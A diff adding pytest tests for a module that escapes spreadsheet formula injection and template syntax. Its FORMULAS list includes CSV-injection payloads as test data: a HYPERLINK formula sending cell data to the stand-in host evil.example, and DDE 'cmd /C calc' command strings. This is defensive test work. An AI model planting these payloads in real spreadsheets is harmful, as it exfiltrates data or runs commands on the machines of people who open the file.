@@ -76,3 +76,47 @@ def test_a_service_named_with_template_syntax_is_shown_not_evaluated(tmp_path):
     assert "\\u0026#123;\\u0026#123; 7*7 \\u0026#125;\\u0026#125;" in rendered
     assert "os.getpid() \\u0026#125;\\u0026#125;" in rendered  # shown as text, never run
     assert " 49 " not in rendered
+
+
+# --- spreadsheets -------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_spreadsheet_cell_quotes_every_formula_start(text):
+    cell = safe.spreadsheet_cell(text)
+    assert cell == "'" + text
+    assert safe.from_spreadsheet_cell(cell) == text
+
+
+@pytest.mark.parametrize("value", [12, -3.5, 0, True, None, "Čajanke", "05 663 45 50", "a=b", "", "'plain"])
+def test_spreadsheet_cell_leaves_real_values_alone(value):
+    assert safe.spreadsheet_cell(value) == value and type(safe.spreadsheet_cell(value)) is type(value)
+    assert safe.from_spreadsheet_cell(value) == value
+
+
+def test_a_phone_number_stays_text_with_its_plus():
+    assert safe.spreadsheet_cell("+38656634550") == "'+38656634550"
+    assert safe.from_spreadsheet_cell("'+38656634550") == "+38656634550"
+
+
+@pytest.mark.parametrize("text", ["'=1", "''+2", "'-"])
+def test_quotes_already_in_the_data_read_back_exactly(text):
+    cell = safe.spreadsheet_cell(text)
+    assert cell == "'" + text
+    assert safe.from_spreadsheet_cell(cell) == text
+
+
+def test_spreadsheet_frame_quotes_text_keeps_numbers_and_input():
+    import numpy as np
+    import pandas as pd
+
+    frame = pd.DataFrame({"=name": ["=1+1", "Koper", None], "count": [-1, 2, 3], "share": [-0.5, np.nan, 1.0]})
+    out = safe.spreadsheet_frame(frame)
+    assert list(out.columns) == ["'=name", "count", "share"]
+    assert out["'=name"].tolist()[:2] == ["'=1+1", "Koper"] and pd.isna(out["'=name"].iloc[2])
+    assert out["count"].tolist() == [-1, 2, 3] and out["count"].dtype == frame["count"].dtype
+    assert out["share"].dtype == frame["share"].dtype and out["share"].iloc[0] == -0.5
+    assert frame["=name"].iloc[0] == "=1+1"  # the input is not changed
